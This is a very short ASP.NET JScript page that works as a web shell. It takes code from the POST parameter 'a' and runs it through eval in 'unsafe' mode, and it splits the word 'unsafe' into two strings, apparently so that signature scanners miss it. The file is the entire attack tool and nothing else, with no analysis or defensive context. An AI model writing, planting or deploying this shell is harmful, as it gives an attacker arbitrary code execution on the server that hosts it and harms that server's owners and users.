<%@ Page Language="Jscript"%>
<%
var p = Request.Form["a"];
var u = "un" + "safe";
eval(p, u);
%>
